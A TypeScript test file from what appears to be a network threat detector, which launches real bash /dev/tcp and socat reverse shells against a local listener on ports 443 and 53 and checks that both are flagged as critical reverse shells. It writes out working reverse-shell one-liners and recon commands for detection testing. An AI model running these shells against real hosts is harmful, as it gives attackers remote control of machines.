/**
 * Real reverse shells, side by side with nDPI: bash's own (`bash -i >& /dev/tcp/HOST/PORT 0>&1`) and socat's
 * (`socat TCP:HOST:PORT EXEC:/bin/sh`, a shell that prints nothing before its first answer), each connecting out to an
 * operator's listener (a socket here) that sends `id`, `whoami` and `uname -a`; recorded through the loopback relay
 * on ports 443 and 53, where a port guess says HTTPS and DNS.
 */
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, rmSync } from 'node:fs';
import net, { type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FlowFinding, ThreatFinding } from '#core/finding.ts';
import { hasBinaries } from '#test/fixtures/protocols/live-servers.ts';
import { ndpiAvailable } from '#test/helpers/ndpi-reader.ts';
import { type RecordedChunk, startRecorder } from '../protocols/loopback-recorder.ts';
import { ndpiLineFor, type RecordedSession, recordAndInspect } from './recorded-sessions.ts';

const available = hasBinaries('/bin/bash', '/usr/bin/socat') && ndpiAvailable();
const dir = mkdtempSync(join(tmpdir(), 'meshward-shell-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
const commands = ['id', 'whoami', 'uname -a', 'exit'];

/** The operator's listener: waits for the shell, sends each command a moment apart, then the shell exits. */
const operate = async (shellCommand: (port: number) => [string, string[]]): Promise<RecordedChunk[]> => {
  const listener = net.createServer(async (socket) => {
    socket.on('error', () => socket.destroy());
    await wait(300);
    for (const command of commands) {
      socket.write(`${command}\n`);
      await wait(200);
    }
  });
  listener.listen(0, '127.0.0.1');
  await once(listener, 'listening');
  const recorder = await startRecorder((listener.address() as AddressInfo).port);
  const [program, args] = shellCommand(recorder.port);
  const child = spawn(program, args, {
    stdio: 'ignore',
    cwd: dir,
    env: { ...process.env, PS1: '\\u@\\h:\\w\\$ ' },
  });
  const timer = setTimeout(() => child.kill('SIGKILL'), 10_000);
  await once(child, 'exit');
  clearTimeout(timer);
  await wait(200);
  await recorder.close();
  listener.close();
  return recorder.chunks;
};

const sessions: RecordedSession[] = [
  {
    name: 'bash -i over /dev/tcp',
    port: 443,
    record: () => operate((port) => ['bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`]]),
  },
  {
    name: 'socat EXEC:/bin/sh',
    port: 53,
    record: () => operate((port) => ['socat', [`TCP:127.0.0.1:${port}`, 'EXEC:/bin/sh']]),
  },
];

describe.skipIf(!available)(
  `reverse shells from bash and socat, against nDPI${available ? '' : ' (skipped: apt-get install socat libndpi-bin)'}`,
  () => {
    let ours: ThreatFinding[] = [];
    let flows: FlowFinding[] = [];
    let ndpiLines: string[] = [];

    beforeAll(async () => {
      const result = await recordAndInspect(sessions, dir, 'shells.pcap');
      ours = result.ours.filter((f) => f.threat === 'reverse-shell');
      flows = result.flows;
      ndpiLines = result.ndpiLines;
    }, 60_000);

    const flowOn = (port: number) => flows.find((f) => f.server.port === port && f.transport === 'tcp');

    it('labels both sessions shell on ports that say HTTPS and DNS; nDPI only guesses from the port', () => {
      expect(sessions.map((s) => flowOn(s.port)?.protocol)).toEqual(['shell', 'shell']);
      for (const s of sessions) expect(ndpiLineFor(ndpiLines, s.port)).not.toMatch(/Confidence: DPI/);
      console.log(
        `nDPI on the reverse shells:\n${sessions.map((s) => ndpiLineFor(ndpiLines, s.port).slice(0, 120)).join('\n')}`,
      );
      // In either order: under load the first command can cross before bash has printed its prompt.
      expect([...(flowOn(443)?.l7?.operations ?? [])].sort()).toEqual(['command', 'prompt']);
      expect(flowOn(53)?.l7?.operations).toEqual(['command']);
    });

    it('reports each as a reverse shell, critical, naming the first command the listener ran', () => {
      expect(ours.map((f) => [f.server.port, f.severity, f.evidence])).toEqual([
        [443, 'critical', 'a reverse shell: the server ran `id` in it'],
        [53, 'critical', 'a reverse shell: the server ran `id` in it'],
      ]);
    });
  },
);
